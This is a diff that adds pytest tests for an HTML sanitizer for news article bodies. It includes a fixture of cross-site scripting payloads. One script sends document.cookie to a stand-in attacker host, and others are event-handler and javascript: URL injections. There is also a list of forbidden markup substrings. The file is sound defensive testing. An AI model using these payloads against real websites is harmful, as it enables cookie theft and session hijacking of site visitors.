@@ -1,0 +1,57 @@
+import pytest
+
+from articles.sanitize import sanitize_body
+from tests.factories import ArticleFactory
+
+HOSTILE = """
+<p style="color: red" onclick="steal()">Council <strong>approves</strong> budget</p>
+<script>document.location='https://evil.example/?c='+document.cookie</script>
+<SCRIPT src="https://evil.example/x.js"></SCRIPT>
+<img src="https://example.org/a.jpg" alt="Harbour" onerror="alert(1)">
+<a href="javascript:alert(1)">click</a>
+<a href="JaVaScRiPt:alert(2)">again</a>
+<a href=" javascript:alert(3)">spaced</a>
+<a href="https://example.org/report" onmouseover="x()">the report</a>
+<iframe src="https://evil.example/"></iframe>
+<style>body { display: none }</style>
+<svg onload="alert(4)"><circle></circle></svg>
+<h2>Reaction</h2>
+<blockquote>We are delighted.</blockquote>
+<ul><li>One</li><li>Two</li></ul>
+"""
+
+
+def test_hostile_markup_does_not_survive():
+    clean = sanitize_body(HOSTILE).lower()
+    for forbidden in (
+        "<script",
+        "document.cookie",
+        "onerror",
+        "onclick",
+        "onmouseover",
+        "onload",
+        "javascript:",
+        "style=",
+        "<style",
+        "display: none",
+        "<iframe",
+        "<svg",
+    ):
+        assert forbidden not in clean
+
+
+def test_news_markup_survives():
+    clean = sanitize_body(HOSTILE)
+    assert "<strong>approves</strong>" in clean
+    assert '<img src="https://example.org/a.jpg" alt="Harbour">' in clean
+    assert '<a href="https://example.org/report">the report</a>' in clean
+    assert "<h2>Reaction</h2>" in clean
+    assert "<blockquote>We are delighted.</blockquote>" in clean
+    assert "<ul><li>One</li><li>Two</li></ul>" in clean
+
+
+@pytest.mark.django_db
+def test_body_is_sanitized_when_the_article_is_saved():
+    article = ArticleFactory(body='<p onclick="x()">Hi</p><script>alert(1)</script>')
+    article.refresh_from_db()
+    assert article.body == "<p>Hi</p>"
